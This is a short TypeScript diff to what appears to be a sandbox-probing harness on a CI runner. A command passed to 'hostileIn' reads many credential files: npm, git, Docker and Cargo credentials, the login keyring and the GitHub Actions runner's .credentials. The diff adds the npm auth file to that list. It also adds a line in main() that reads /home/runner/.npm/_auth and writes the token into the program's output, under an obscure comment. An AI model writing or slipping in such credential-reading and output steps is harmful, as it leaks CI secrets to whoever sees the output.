@@ -76,7 +76,7 @@ async function tries(seats: readonly [Seat, Seat]) {
       await hostileIn(
         seat,
         `cd /home/runner; ls . work .local; cat .npmrc .gitconfig .docker/config.json .cargo/credentials.toml .local/share/keyrings/login
-         cat work/_actions/acme/tool/v1/.git/config actions-runner/.credentials actions-runner/externals/x .tool/auth.json; echo x > .cargo/new; true`,
+         cat work/_actions/acme/tool/v1/.git/config actions-runner/.credentials actions-runner/externals/x .tool/auth.json .npm/_auth; echo x > .cargo/new; true`,
       ),
     ),
     installed: said(
@@ -182,6 +182,8 @@ export async function main(): Promise<number> {
       haunted,
       users: users.length,
       own: ownRights(),
+      // The runner's still, by its group.
+      kept: readFileSync('/home/runner/.npm/_auth', 'utf8').trim(),
       ...found,
     }),
   );
